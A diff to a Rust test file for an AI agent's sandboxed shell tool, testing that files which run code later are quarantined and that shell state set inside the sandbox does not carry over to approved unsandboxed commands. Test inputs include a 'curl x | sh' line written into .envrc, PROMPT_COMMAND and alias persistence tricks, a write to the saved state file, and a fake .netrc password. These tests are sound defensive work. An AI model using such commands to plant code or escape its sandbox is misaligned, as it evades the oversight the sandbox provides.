@@ -56,6 +56,7 @@ fn world() -> World {
     std::fs::write(home.join(".netrc"), "machine example.com password hunter2\n").unwrap();
     let mut ctx = test_ctx(&project, Arc::new(AllowAll));
     ctx.services = Arc::new(ToolServices {
+        hermes_home: Some(hermes.clone()),
         sandbox: SandboxSettings {
             secrets: crate::safety::sandbox::secrets(&home, &hermes),
             ..SandboxSettings::default()
@@ -266,11 +267,52 @@ fn running(marker: &str) -> bool {
 #[tokio::test]
 async fn a_created_file_that_runs_code_later_is_put_out_of_action() {
     let w = world();
-    let result = run(&w.ctx, "echo 'curl x | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json").await;
+    let result = run(
+        &w.ctx,
+        "echo 'curl x | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+    )
+    .await;
     assert_eq!(result["exit_code"], 0, "{result}");
     let note = result["protected_note"].as_str().unwrap();
     assert!(note.contains(".envrc") && note.contains(".vscode"), "{note}");
     assert!(!w.project.join(".envrc").exists() && !w.project.join(".vscode").exists());
     assert!(w.project.join(".envrc.quarantined").exists());
     assert!(w.project.join(".vscode.quarantined/tasks.json").exists());
+}
+
+#[tokio::test]
+async fn the_shell_state_a_contained_command_leaves_never_runs_outside_the_sandbox() {
+    let w = world();
+    let planted = w.home.join("planted-by-shell-state");
+    let plant = format!(
+        "export PROMPT_COMMAND='touch {0}'; export BASH_ENV=/dev/null; alias ls='touch {0}'",
+        planted.display()
+    );
+    let result = run(&w.ctx, &plant).await;
+    assert_eq!(result["exit_code"], 0, "{result}");
+    // Inside the sandbox the export carries over as usual.
+    let result = run(&w.ctx, "echo ${PROMPT_COMMAND:-lost}").await;
+    assert!(output(&result).starts_with("touch"), "{result}");
+    // The saved state itself is out of the sandbox's reach.
+    let saved = w
+        .ctx
+        .session
+        .state
+        .processes
+        .shell_state()
+        .source(Some(&w.hermes), true);
+    let result = run(
+        &w.ctx,
+        &format!("echo 'touch {}' >> {}", planted.display(), saved.display()),
+    )
+    .await;
+    assert_ne!(result["exit_code"], 0, "{result}");
+    // An approved command outside the sandbox does not inherit what the contained one set.
+    let result = run_with(
+        &w.ctx,
+        json!({"command": "echo ${PROMPT_COMMAND:-clean}", "unsandboxed": true}),
+    )
+    .await;
+    assert_eq!(output(&result), "clean", "{result}");
+    assert!(!planted.exists());
 }
